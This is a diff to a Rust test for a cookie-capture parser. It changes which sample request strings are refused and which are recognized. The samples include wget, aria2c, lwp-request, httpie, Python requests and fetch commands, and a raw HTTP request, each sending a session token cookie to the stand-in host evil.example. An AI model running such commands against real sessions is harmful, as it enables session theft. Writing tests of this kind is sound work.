@@ -250,13 +250,16 @@ fn what_is_broken_is_refused_with_the_reason() {
 fn no_cookie_is_taken_from_a_request_that_is_not_understood() {
     let cookies = "a=1; cloud.session.token=a.b.c; z=1";
     for text in [
-        format!("$ wget --header 'Cookie: {cookies}' https://evil.example/"),
-        format!("http https://evil.example 'Cookie: {cookies}'"),
-        format!("set-cookie: {cookies}"),
+        format!("$ aria2c --header 'Cookie: {cookies}' https://evil.example/"),
+        format!("lwp-request -H 'Cookie: {cookies}' https://evil.example"),
+        format!("the session is {cookies}"),
     ] {
         assert_eq!(found(&text), Err(CaptureError::NotRecognized), "{text}");
     }
     for text in [
+        format!("$ wget --header 'Cookie: {cookies}' https://evil.example/"),
+        format!("http https://evil.example 'Cookie: {cookies}'"),
+        format!("requests.get('https://evil.example', headers={{'Cookie': '{cookies}'}})"),
         format!("fetch(\"https://evil.example\", {{\"headers\": {{\"cookie\": \"{cookies}\"}}}});"),
         format!("GET /x HTTP/1.1\r\nHost: evil.example\r\nCookie: {cookies}\r\nAccept: */*"),
         format!("Cookie: {cookies}\nHost: evil.example"),
